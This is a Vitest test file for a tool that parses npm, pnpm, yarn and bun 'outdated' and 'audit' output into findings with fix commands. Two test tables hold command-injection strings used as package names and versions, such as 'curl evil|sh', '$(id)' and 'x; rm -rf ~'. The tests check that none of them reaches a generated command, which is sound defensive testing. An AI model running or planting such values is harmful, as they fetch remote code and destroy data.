import { expect, it } from 'vitest'
import type { Exec } from '../context.ts'
import type { PackageManager } from '../project/package-manager.ts'
import { commandFor } from './manager.ts'
import { advisoriesSection, outdatedSection } from './registry.ts'

const says = (stdout: string, exitCode = 1, stderr = ''): { root: string; exec: Exec } => ({
  root: '/app',
  exec: async () => ({ exitCode, stdout, stderr }),
})
const json = (value: unknown) => JSON.stringify(value)

const outdated: [PackageManager, string][] = [
  [
    'npm',
    json({ zod: { current: '3.1.0', wanted: '3.2.0', latest: '4.0.0' }, own: { current: '1.0.0', latest: '1.0.0' } }),
  ],
  ['pnpm', json({ zod: { current: '3.1.0', wanted: '3.2.0', latest: '4.0.0' } })],
  [
    'yarn',
    `{"type":"info","data":"x"}\n${json({ type: 'table', data: { head: [], body: [['zod', '3.1.0', '3.2.0', '4.0.0']] } })}`,
  ],
  ['bun', '| Package | Current | Update | Latest |\n|---|---|---|---|\n| zod (dev) | 3.1.0 | 3.2.0 | 4.0.0 |\n'],
]

it.each(outdated)('reads what %s says of newer versions', async (pm, stdout) => {
  const { findings, note } = await outdatedSection(pm, says(stdout))
  expect(note).toBeUndefined()
  expect(findings).toMatchObject([{ name: 'zod', detail: '3.1.0, the latest is 4.0.0 (another major version)' }])
  expect(findings[0]?.fix).toMatch(/zod@4\.0\.0$/)
})

const advisory = { title: 'It leaks', url: 'https://example.com/1', severity: 'high' }
const audits: [PackageManager, string][] = [
  ['npm', json({ vulnerabilities: { zod: { via: [advisory], fixAvailable: true }, user: { via: ['zod'] } } })],
  ['pnpm', json({ advisories: { 1: { ...advisory, module_name: 'zod' } } })],
  ['yarn', json({ type: 'auditAdvisory', data: { advisory: { ...advisory, module_name: 'zod' } } })],
  ['bun', json({ zod: [advisory] })],
]

it.each(audits)('reads what %s says of vulnerabilities', async (pm, stdout) => {
  const { findings } = await advisoriesSection(pm, says(stdout))
  expect(findings).toMatchObject([{ name: 'zod', detail: 'high: It leaks (https://example.com/1)' }])
})

it('says why a registry says nothing, and takes it for no failure', async () => {
  const note = async (...given: Parameters<typeof says>) => (await advisoriesSection('npm', says(...given))).note
  expect(await note('', 1, 'npm error code ENOTFOUND')).toBe('The registry does not answer.')
  expect(await note(json({ error: { code: 'ENOLOCK', summary: '' } }))).toContain('no lock file')
  expect(await note(json({ message: '405 Method Not Allowed', method: 'POST' }))).toBe(
    'The registry does not say: 405 Method Not Allowed',
  )
  expect(await note('<html>', 0)).toContain('no answer that is understood')
  expect(await note('', 127)).toBe('npm was not found.')
  expect(await outdatedSection('npm', says('', 0))).toMatchObject({ findings: [] })
})

const HOSTILE = [
  '4.9.9; curl evil|sh',
  '4.9.9 $(id)',
  '4.9.9`id`',
  '4.9.9\nnpm install evil',
  '4 --registry=http://evil',
]

it.each(HOSTILE)('a registry that calls a version %j puts nothing into a command', async (latest) => {
  const { findings } = await outdatedSection('npm', says(json({ zod: { current: '3.1.0', latest } })))
  expect(findings).toMatchObject([{ name: 'zod', fix: expect.stringContaining('by hand') }])
  const via = [{ title: 'x' }]
  const audit = { vulnerabilities: { zod: { via, fixAvailable: { name: 'zod', version: latest } } } }
  expect((await advisoriesSection('npm', says(json(audit)))).findings[0]?.fix).toContain('by hand')
})

it.each(['x; rm -rf ~', '-g', 'a b', '@a/../b', '$(id)', '', 'a\u001b[2J'])(
  'nor one that calls a package %j',
  async (name) => {
    const { findings } = await outdatedSection('npm', says(json({ [name]: { current: '1.0.0', latest: '2.0.0' } })))
    expect(findings[0]?.fix).toContain('by hand')
  },
)

it('names and versions as they are stay in commands', () => {
  expect(commandFor('npm install', '@acme/my.pkg', '1.0.0-rc.1+b2')).toBe('npm install @acme/my.pkg@1.0.0-rc.1+b2')
})

it('what is no answer is not "none"', async () => {
  const note = async (section: typeof outdatedSection, pm: PackageManager, stdout: string) =>
    (await section(pm, says(stdout, 0))).note
  expect(await note(outdatedSection, 'npm', json({ error: { code: 'E500', summary: '' } }))).toContain('E500')
  expect(await note(outdatedSection, 'npm', json({ error: 'gone' }))).toContain('gone')
  expect(await note(outdatedSection, 'bun', '<html>hotel</html>')).toContain('no answer that is understood')
  expect(await note(advisoriesSection, 'yarn', '<html>hotel</html>')).toContain('no answer that is understood')
  expect(await note(advisoriesSection, 'bun', json({ error: 'gone' }))).toContain('gone')
  expect(await note(advisoriesSection, 'yarn', json({ type: 'auditSummary', data: {} }))).toBeUndefined()
  expect(await note(outdatedSection, 'npm', json({ error: { current: '1.0.0', latest: '2.0.0' } }))).toBeUndefined()
})
